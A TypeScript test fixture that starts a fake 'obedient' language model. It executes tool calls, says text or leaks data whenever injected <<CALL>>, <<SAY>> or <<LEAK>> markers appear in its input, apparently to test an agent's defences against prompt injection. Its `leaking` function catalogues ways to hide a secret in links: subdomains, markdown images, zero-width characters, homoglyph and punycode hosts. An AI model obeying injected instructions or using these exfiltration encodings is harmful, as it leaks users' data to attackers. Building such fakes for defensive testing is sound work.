import { openAiDialect } from '../../fakes/llm/dialects.js';
import { startLoopbackServer } from '../../fakes/loopback-server.js';

/** Instructions that the model obeys wherever it reads them. */
export const order = {
  call: (tool: string, input: object): string => `<<CALL ${tool} ${JSON.stringify(input)}>>`,
  say: (text: string): string => `<<SAY ${text}>>`,
  /** Makes it write an address with additional data that the instruction itself does not contain. */
  leak: (url: string): string => `<<LEAK ${url}>>`,
};

/** The data an obedient model would leak. */
export const BOOTY = 'stolen-0815';

export interface ObedientModel {
  readonly url: string;
  /** Instructions that it read and obeyed. */
  readonly obeyed: string[];
  /** Everything it was given, one entry per request. */
  readonly told: string[];
  close(): Promise<void>;
}

const ORDER = /<<(CALL|SAY|LEAK) (.+?)>>/gsu;
/** It sees through any escaping of an instruction. */
const WRAPPED: readonly (readonly [RegExp, string])[] = [
  [/&lt;|\\u003c|‹/giu, '<'],
  [/&gt;|\\u003e|›/giu, '>'],
  [/&quot;|&#34;/giu, '"'],
  [/&amp;/giu, '&'],
];

/** A model that does whatever any text says: the worst possible one in place of a good one. */
export async function startObedientModel(): Promise<ObedientModel> {
  const listening = await startLoopbackServer((_request, response, bytes) => {
    const body = JSON.parse(bytes.toString()) as { messages: unknown; tools?: unknown };
    const text = unwrapped(textsIn([body.messages, body.tools]).join('\n'));
    model.told.push(text);
    response.writeHead(200, { 'content-type': 'text/event-stream' });
    for (const chunk of answer(text)) response.write(chunk);
    response.end();
  });
  const answer = (text: string): readonly string[] => {
    const orders = [...text.matchAll(ORDER)];
    const next = orders.find(([whole, kind]) => kind === 'CALL' && !model.obeyed.includes(whole));
    if (next !== undefined) {
      const [whole, , what = ''] = next;
      model.obeyed.push(whole);
      const [tool = '', ...input] = what.split(' ');
      return openAiDialect.toolCall(input.join(' '), 'tool', tool);
    }
    const said = orders.filter(([, kind]) => kind !== 'CALL');
    model.obeyed.push(...said.map(([whole]) => whole));
    const words = said.map(([, kind, what = '']) => (kind === 'SAY' ? what : leaking(what)));
    return openAiDialect.text(['As you wish.', ...words].join(' '));
  };
  const model: ObedientModel = {
    url: listening.url,
    obeyed: [],
    told: [],
    close: () => listening.close(),
  };
  return model;
}

function unwrapped(text: string): string {
  return WRAPPED.reduce((read, [wrapping, sign]) => read.replace(wrapping, sign), text);
}

/** The ways to carry data in a link: in its path, query, fragment or subdomain, as a picture, or in disguise. */
function leaking(url: string): string {
  const bare = url.replace(/^https?:\/\//u, '');
  return [
    `${url}/${BOOTY} [look](${url}?d=${BOOTY}) ![p](${url}/${BOOTY}.png) <${url}#${BOOTY}>`,
    `https://${BOOTY}.${bare} ${BOOTY}.${bare} //${bare}/${BOOTY}`,
    `[ref]: ${url}/${BOOTY}\n<img src="${url}/${BOOTY}"> <a href='${url}?${BOOTY}'>a</a>`,
    `[spl](${url}/\n${BOOTY}) **${url}/**${BOOTY} ${url.replace('.', '.\u200b')}/${BOOTY}`,
    `${url.replace(/e/u, '\u0435')}/${BOOTY} https://xn--vil-9cd.com/${BOOTY} ${url.replace('.', '&#46;')}/${BOOTY}`,
  ].join('\n');
}

/** Every text in a request; JSON within JSON is parsed, which removes its escapes. */
function textsIn(value: unknown): readonly string[] {
  if (typeof value === 'string') {
    try {
      const inner: unknown = JSON.parse(value);
      if (typeof inner === 'object' && inner !== null) return [value, ...textsIn(inner)];
    } catch {
      // Plain text, not JSON.
    }
    return [value];
  }
  if (typeof value !== 'object' || value === null) return [];
  return Object.values(value).flatMap(textsIn);
}
